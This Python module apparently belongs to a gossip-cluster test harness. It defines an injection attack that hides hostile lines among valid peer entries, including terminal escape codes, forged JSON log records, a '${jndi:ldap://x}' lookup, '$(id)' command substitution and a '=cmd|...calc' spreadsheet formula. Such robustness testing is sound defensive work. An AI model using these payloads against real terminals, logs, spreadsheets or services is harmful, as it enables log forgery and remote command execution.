"""Lines that are to break out of whatever shows, logs or parses them, between valid ones."""

from __future__ import annotations

from collections.abc import Iterator

from gossip.core.attacks.scene import Attack, Scene, Step

_POISON = (
    b"\x1b[2J\x1b[1;1H\x1b]0;owned\x07,1,1",  # clears a terminal and names its window
    b"\x1b[31m127.0.0.1:5001 blacklisted\x1b[0m",
    b"\x9b2J\x90q\x9c",  # the same introducers as single bytes
    b"127.0.0.1:5001,1,1\r127.0.0.1:5001 --> 9",
    b"127.0.0.1:5001\x00,1,1",
    b"\x00" * 64,
    b'","level":"error","event":"greenlet_crashed","x":"',
    b'{"ts":"2038-01-19T03:14:07Z","level":"error","event":"node_stopped"}',
    b"\\u000a\\n%0a{0.__class__}%s%n${jndi:ldap://x}`id`$(id)",
    b"=cmd|'/C calc'!A0,1,1",  # a formula, where a table is opened as a sheet
    "\u202e127.0.0.1:5001,1,1\u2066".encode(),  # from right to left
    "\u2028127.0.0.1:5001,1,1\u0085".encode(),  # line ends to some
    "１２７.0.0.1:5001,１,１".encode(),  # digits to some
    b"\xff\xfe\xc0\x80\xed\xa0\x80",  # no UTF-8
    b"10.0.0.1:5001,-1,1",
    b"10.0.0.1:5001,1e9,1",
    b"10.0.0.1:5001,1_000,1",
    b"10.0.0.1:5001,1,-1",
    b"10.0.0.1:05001,1,1",
    b"[fe80::1%lo]:5001,1,1",
    b"A" * 9000,
    b"127.0.0.1:5001," + b"9" * 5000 + b",1",
)
# They belong to a reply, or to no table at all, and are of the liar's making.
_DIRECTIVES = (
    b"#from 127.0.0.1:5001 cluster=\x1b[2J",
    b"#cluster \x1b[31m\x00",
    b"#suspect 127.0.0.1:5001\x1b[K",
    b"#leaving 127.0.0.1:5001",
    b"#" + b"\x07" * 500,
)


def _answer(scene: Scene) -> Iterator[Step]:
    honest = scene.tell(scene.others).removesuffix(b"\n")
    # The own line again for each bad one, so that never most are bad: that would be a strike.
    lines = [line for poison in _POISON for line in (poison, scene.own.line)]
    yield honest + b"\n".join([*lines, *_DIRECTIVES]) + b"\n\n"


def _reply(scene: Scene) -> bytes:
    lines = [*_DIRECTIVES, *_POISON][: scene.reply_lines]
    return scene.reply(()).removesuffix(b"\n") + b"\n".join(lines) + b"\n\n"


INJECT = Attack("hide escapes, JSON and control bytes among valid lines", _answer, _reply)
